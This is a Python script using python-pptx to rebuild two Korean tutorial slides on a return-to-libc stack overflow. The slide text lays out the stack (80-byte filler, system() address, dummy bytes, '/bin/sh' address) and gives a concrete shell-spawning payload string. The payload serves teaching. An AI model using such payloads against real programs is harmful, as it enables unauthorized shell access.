

from lxml import etree
from pptx import Presentation
from pptx import util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml.ns import qn

PX = u.Inches(1) // 100
SLIDE_W, SLIDE_H = 1333, 750
FONT, FONT_SIZE = "Noto Sans CJK KR", u.Pt(18)
INK = RGBColor(0x00, 0x00, 0x00)
OUTLINE = RGBColor(0x32, 0x54, 0x91)
LEFT, CENTER = text.PP_ALIGN.LEFT, text.PP_ALIGN.CENTER

ROW_W, CELL_W, CELL_H = 995, 249, 117
CELL_RIGHT_INSET = 18


def px(*lengths):
    return [u.Emu(n * PX) for n in lengths]


def write(sp, content, align=LEFT, insets=(10, 5, 10, 5)):
    """Fill a shape with wrapped, top-anchored text in the shared style."""
    tf = sp.text_frame
    tf.text = content
    tf.word_wrap = True
    tf.auto_size = text.MSO_AUTO_SIZE.NONE
    tf.vertical_anchor = text.MSO_ANCHOR.TOP
    (tf.margin_left, tf.margin_top,
     tf.margin_right, tf.margin_bottom) = px(*insets)
    for p in tf.paragraphs:
        p.alignment = align
        for r in p.runs:
            r.font.name, r.font.size = FONT, FONT_SIZE
            r.font.color.rgb = INK
            ea = etree.SubElement(r.font._element, qn("a:ea"))
            ea.set("typeface", FONT)


def add_titled_slide(prs, title, box):
    s = prs.slides.add_slide(prs.slide_layouts[5])
    sp = s.shapes.title
    sp.left, sp.top, sp.width, sp.height = px(*box)
    write(sp, title)
    return s


def add_note(s, content, box, align=LEFT):
    write(s.shapes.add_textbox(*px(*box)), content, align)


def add_memory_row(s, x, y, cells, align=LEFT):
    """Draw adjoining cells; each is (text, left inset, top inset)."""
    for i, (content, left, top) in enumerate(cells):
        offset = i * (ROW_W - CELL_W) // (len(cells) - 1)
        sp = s.shapes.add_shape(shapes.MSO_SHAPE.RECTANGLE,
                                *px(x + offset, y, CELL_W, CELL_H))
        sp.shadow.inherit = False
        sp.fill.background()
        sp.line.color.rgb = OUTLINE
        sp.line.width = u.Pt(1)
        write(sp, content, align, (left, top, CELL_RIGHT_INSET, 0))


def build_layout_slide(prs):
    x = 80
    dummy = "Dummy 코드 80byte\n(buffer+SFP)"
    s = add_titled_slide(prs, "이제 공격코드를 구성해보자.", (x, 53, 1154, 40))
    add_memory_row(s, x, 164, [
        (dummy, 21, 13),
        ("RET", 26, 43),
        ("RET로 실행시킬 함수의\nreturn address", 10, 13),
        ("RET로 실행시킬 함수의 인자들", 10, 13),
    ])
    add_note(s, "…..", (1074, 192, 228, 40), CENTER)
    add_note(s, "문제 상황에 맞게 다시 구성하자면", (x, 335, 459, 40))
    add_memory_row(s, x, 469, [
        (dummy, 17, 13),
        ("실행 시킬 system함수의 주소", 10, 31),
        ("Dummy 값 4바이트", 10, 43),
        ("/bin/sh 문자열의 주소", 10, 28),
    ])
    add_note(s, "(참고로 Dummy값 4바이트가 아닌 exit 함수의 주소를 넣어도 됨. "
                "좀 더 안정적으로 실행 시킬 수 있음)", (x, 616, 994, 71))


def build_payload_slide(prs):
    x = 134
    s = add_titled_slide(prs, "이것을 좀 더 구체화시켜보자", (x, 191, 864, 40))
    add_memory_row(s, x, 296, [
        ("“a”*80", 9, 42),
        ("“0xb7ecffb0”", 18, 42),
        ("“a”*4", 18, 42),
        ("“0xb7fb63bf”", 21, 44),
    ], CENTER)
    add_note(s, r"결론은 공격코드는 print(“a”*80+”\xb0\xff\xec\xb7”"
                r"+”a”*4+”\xbf\x63\xfb\xb7”)가 된다.", (x + 6, 471, 1010, 71))


def main():
    prs = Presentation()
    prs.slide_width, prs.slide_height = px(SLIDE_W, SLIDE_H)
    build_layout_slide(prs)
    build_payload_slide(prs)
    prs.save("out.pptx")


if __name__ == "__main__":
    main()
